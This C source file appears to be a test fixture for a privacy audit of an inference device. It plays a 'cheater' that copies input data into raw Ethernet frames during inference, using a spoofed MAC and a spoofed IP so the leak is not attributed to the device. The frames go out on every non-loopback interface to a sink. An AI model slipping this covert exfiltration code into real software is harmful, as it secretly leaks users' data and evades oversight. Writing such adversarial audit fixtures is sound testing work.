/* leak_packet_spoof.c — a cheater who read the audit: writes raw Ethernet frames with an AF_PACKET
 * socket on every interface but lo, inside the inference windows, with another host's source MAC
 * and IP so that nothing attributes them to the device by address: one IPv4/UDP frame from
 * 192.0.2.77 to the sink, and one frame of a local experimental Ethernet type (0x88b5). Both carry
 * the input. Must fail PRV-02, PRV-03 and PRV-05 on the link. Frames go only to the test's veth. */
#define _DEFAULT_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "fixture.h"

static const unsigned char spoofed_mac[6] = {0x02, 0x00, 0x5e, 0x10, 0x20, 0x30};

static void send_frame(int fd, unsigned ifindex, const unsigned char *frame, size_t n)
{
    struct sockaddr_ll to;
    memset(&to, 0, sizeof to);
    to.sll_family = AF_PACKET;
    to.sll_ifindex = (int)ifindex;
    to.sll_halen = 6;
    memset(to.sll_addr, 0xff, 6);
    (void)sendto(fd, frame, n, 0, (struct sockaddr *)&to, sizeof to);
}

void fixture_leak(const unsigned char *data, size_t bytes)
{
    struct sockaddr_in sink;
    if (fixture_sink(&sink) != 0 || bytes > 1400) return;
    int fd = socket(AF_PACKET, SOCK_RAW, htons(0x0003));
    if (fd < 0) return;
    unsigned char frame[14 + 20 + 8 + 1400];
    struct if_nameindex *names = if_nameindex();
    if (names == NULL) {
        close(fd);
        return;
    }
    for (struct if_nameindex *n = names; n->if_index != 0; n++) {
        if (strcmp(n->if_name, "lo") == 0) continue;
        /* raw Ethernet, experimental type */
        memset(frame, 0xff, 6);
        memcpy(frame + 6, spoofed_mac, 6);
        frame[12] = 0x88; frame[13] = 0xb5;
        memcpy(frame + 14, data, bytes);
        send_frame(fd, n->if_index, frame, 14 + bytes);
        /* IPv4/UDP from an address that is not the device's */
        memset(frame, 0xff, 6);
        frame[12] = 0x08; frame[13] = 0x00;
        unsigned char *ip = frame + 14;
        memset(ip, 0, 20);
        size_t total = 20 + 8 + bytes;
        ip[0] = 0x45; ip[2] = (unsigned char)(total >> 8); ip[3] = (unsigned char)total; ip[8] = 64; ip[9] = 17;
        ip[12] = 192; ip[13] = 0; ip[14] = 2; ip[15] = 77;
        memcpy(ip + 16, &sink.sin_addr, 4);
        uint32_t sum = 0;
        for (int i = 0; i < 20; i += 2) sum += (uint32_t)(ip[i] << 8 | ip[i + 1]);
        while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
        ip[10] = (unsigned char)(~sum >> 8); ip[11] = (unsigned char)~sum;
        unsigned char *udp = ip + 20;
        udp[0] = 0x9c; udp[1] = 0x40; memcpy(udp + 2, &sink.sin_port, 2);
        udp[4] = (unsigned char)((8 + bytes) >> 8); udp[5] = (unsigned char)(8 + bytes); udp[6] = 0; udp[7] = 0;
        memcpy(udp + 8, data, bytes);
        send_frame(fd, n->if_index, frame, 14 + total);
    }
    if_freenameindex(names);
    close(fd);
}

void fixture_unload(void) {}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
